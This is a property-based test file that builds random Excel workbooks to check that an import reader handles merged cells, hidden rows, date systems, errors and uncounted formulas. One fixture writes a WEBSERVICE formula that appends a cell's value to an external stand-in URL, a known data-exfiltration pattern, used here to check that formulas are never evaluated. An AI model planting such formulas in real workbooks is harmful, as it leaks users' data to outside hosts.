/** Workbooks as people leave them: whatever a cell is, what it shows is read, and what cannot be is counted. */
import fc from 'fast-check';
import { expect, test, vi } from 'vitest';
import { dryRun } from '../../shared/imports/dry-run.ts';
import { openFile } from '../../shared/imports/open.ts';
import { zipOf } from '../../shared/reports/zip.ts';
import { addDays } from '../../shared/time/dates.ts';
import { effects } from './effects.ts';
import { knowledge, planOf } from './support.ts';

vi.setConfig({ testTimeout: 120_000 });

const RUNS = Number(process.env.GENSVAR_RUNS ?? 150);
const SEED = 20_260_413;

/** A cell as it stands in the file, and what a person sees in it; undefined: an error, or nothing counted yet. */
interface Made {
  readonly xml: (address: string) => string;
  readonly shows: string | undefined;
}

const escaped = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const word = fc.nat({ max: 99_999 }).map((number) => `q${number}ord`);

const text = (content: string): Made => ({
  shows: content,
  xml: (r) => `<c r="${r}" t="inlineStr"><is><t xml:space="preserve">${escaped(content)}</t></is></c>`,
});
const rich = (parts: readonly string[]): Made => ({
  shows: parts.join(''),
  xml: (r) =>
    `<c r="${r}" t="inlineStr"><is>${parts.map((part) => `<r><rPr><b/></rPr><t>${escaped(part)}</t></r>`).join('')}</is></c>`,
});
/** What a formula says is never counted: only its last result is read. */
const formula = (result: string): Made => ({
  shows: result,
  xml: (r) =>
    `<c r="${r}" t="str"><f>WEBSERVICE("https://example.se/"&amp;A1)</f><v>${escaped(result)}</v></c>`,
});
const uncounted: Made = { shows: undefined, xml: (r) => `<c r="${r}"><f>A1+1</f></c>` };
const failed = (isFormula: boolean): Made => ({
  shows: undefined,
  xml: (r) => `<c r="${r}" t="e">${isFormula ? '<f>A1/0</f>' : ''}<v>#N/A</v></c>`,
});
const yesNo = (is: boolean): Made => ({
  shows: is ? 'TRUE' : 'FALSE',
  xml: (r) => `<c r="${r}" t="b"><v>${is ? 1 : 0}</v></c>`,
});
const number = (value: number): Made => ({
  shows: String(value),
  xml: (r) => `<c r="${r}"><v>${value}</v></c>`,
});
const percent = (hundredths: number): Made => ({
  shows: `${hundredths} %`,
  xml: (r) => `<c r="${r}" s="2"><v>${hundredths / 100}</v></c>`,
});
/** Days are told in either system: from 1900, or from 1904 as on old Macs. */
const day = (days: number, from1904: boolean): Made => ({
  shows: addDays('2020-01-01', days),
  xml: (r) => `<c r="${r}" s="1"><v>${43_831 + days - (from1904 ? 1_462 : 0)}</v></c>`,
});

const made = (from1904: boolean): fc.Arbitrary<Made> =>
  fc.oneof(
    fc.tuple(word, fc.constantFrom('', ' & <b>', '\n', '  ')).map((parts) => text(parts.join(''))),
    fc.array(word, { minLength: 1, maxLength: 3 }).map(rich),
    word.map(formula),
    fc.constant(uncounted),
    fc.boolean().map(failed),
    fc.boolean().map(yesNo),
    fc.integer({ min: -999, max: 999_999 }).map(number),
    fc.integer({ min: 0, max: 100 }).map(percent),
    fc.nat({ max: 2_000 }).map((days) => day(days, from1904)),
  );

const column = (at: number) => String.fromCharCode(65 + at);

const STYLES =
  '<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="9"/></cellXfs></styleSheet>';

interface Book {
  readonly from1904: boolean;
  readonly gap: number;
  readonly rows: readonly (readonly Made[])[];
  readonly hidden: readonly boolean[];
  /** Columns of which the first two cells are one. */
  readonly down: boolean;
  readonly across: boolean;
}

const book: fc.Arbitrary<Book> = fc.boolean().chain((from1904) =>
  fc.record({
    from1904: fc.constant(from1904),
    gap: fc.nat({ max: 3 }),
    rows: fc.array(fc.array(made(from1904), { minLength: 4, maxLength: 4 }), { minLength: 2, maxLength: 6 }),
    hidden: fc.array(fc.boolean(), { minLength: 6, maxLength: 6 }),
    down: fc.boolean(),
    across: fc.boolean(),
  }),
);

function fileOf({ from1904, gap, rows, hidden, down, across }: Book): Uint8Array {
  // The covered cells of a merged one stand in no file.
  const isCovered = (row: number, at: number) =>
    (down && row === 1 && at === 0) || (across && row === 0 && at === 3);
  const body = rows.map((cells, row) => {
    const address = gap + row + 1;
    const own = cells.map((cell, at) => (isCovered(row, at) ? '' : cell.xml(`${column(at)}${address}`)));
    return `<row r="${address}"${hidden[row] ? ' hidden="1"' : ''}>${own.join('')}</row>`;
  });
  const merges = [
    ...(down ? [`<mergeCell ref="A${gap + 1}:A${gap + 2}"/>`] : []),
    ...(across ? [`<mergeCell ref="C${gap + 1}:D${gap + 1}"/>`] : []),
  ];
  const sheet = `<worksheet><cols><col min="2" max="2" hidden="1"/></cols><sheetData>${body.join('')}</sheetData><mergeCells>${merges.join('')}</mergeCells></worksheet>`;
  return zipOf([
    [
      'xl/workbook.xml',
      `<workbook><workbookPr date1904="${from1904 ? 1 : 0}"/><sheets><sheet name="Tomt" sheetId="1" r:id="rId1"/><sheet name="Lista" sheetId="2" r:id="rId2"/></sheets></workbook>`,
    ],
    [
      'xl/_rels/workbook.xml.rels',
      '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Target="worksheets/sheet2.xml"/></Relationships>',
    ],
    ['xl/styles.xml', STYLES],
    ['xl/worksheets/sheet1.xml', '<worksheet><sheetData/></worksheet>'],
    ['xl/worksheets/sheet2.xml', sheet],
  ]);
}

test('every cell of any workbook is read as it is shown; errors and what no program has counted are counted', async () => {
  await fc.assert(
    fc.asyncProperty(book, async (made) => {
      const opened = await openFile(fileOf(made), effects);
      if (opened.form !== 'workbook') throw new Error(opened.form);
      const sheet = opened.workbook.sheets[1];
      if (!sheet) throw new Error('no sheet');
      const read = await opened.workbook.read(sheet);
      let silent = 0;
      let hiddenRows = 0;
      made.rows.forEach((cells, row) => {
        const found = read.rows[made.gap + row] ?? [];
        const shown = cells.map(({ shows }, at) => {
          if (made.across && row === 0 && at === 3) return '';
          if (!made.down || row !== 1 || at !== 0) {
            if (shows === undefined) silent += 1;
            return shows ?? '';
          }
          // The rest of a cell that goes down says what its top says, where the row says anything.
          const others = cells.slice(1).some((cell) => (cell.shows ?? '') !== '');
          return others ? (made.rows[0]?.[0]?.shows ?? '') : '';
        });
        if (
          made.hidden[row] &&
          shown.some((each, at) => each !== '' && !(made.down && row === 1 && at === 0))
        )
          hiddenRows += 1;
        expect(shown.map((each) => each.trim())).toEqual(shown.map((_each, at) => (found[at] ?? '').trim()));
      });
      expect(read.uncounted).toBe(silent);
      expect(read.hidden).toBe(hiddenRows);
    }),
    { numRuns: RUNS, seed: SEED },
  );
});

test('a list of matters in such a workbook keeps every cell, or says what became of it', async () => {
  await fc.assert(
    fc.asyncProperty(book, async (made) => {
      const heads = ['Datum', 'Rubrik', 'Kommentar', 'q1kolumn'].map(text);
      const rows = made.rows.map((cells, row) => [
        day(row, made.from1904),
        text(`Sak ${row}`),
        ...cells.slice(2),
      ]);
      const whole: Book = { ...made, rows: [heads, ...rows], down: false, across: false };
      const opened = await openFile(fileOf(whole), effects);
      if (opened.form !== 'workbook') throw new Error(opened.form);
      const sheet = opened.workbook.sheets[1];
      if (!sheet) throw new Error('no sheet');
      const { frame, plan, rows: read } = planOf((await opened.workbook.read(sheet)).rows);
      const dry = [
        ...dryRun(read, frame, plan, { ...knowledge, masked: (each) => ({ text: each, found: 0 }) }),
      ];
      rows.forEach((cells, row) => {
        const found = dry.find((each) => each.row === made.gap + row + 1);
        const said = JSON.stringify(found);
        for (const { shows } of cells.slice(1)) {
          const wanted = (shows ?? '').replace(/\s+/g, ' ').trim();
          if (wanted !== '') expect(said.replace(/\\n/g, ' ').replace(/\s+/g, ' ')).toContain(wanted);
        }
      });
    }),
    { numRuns: RUNS, seed: SEED },
  );
});
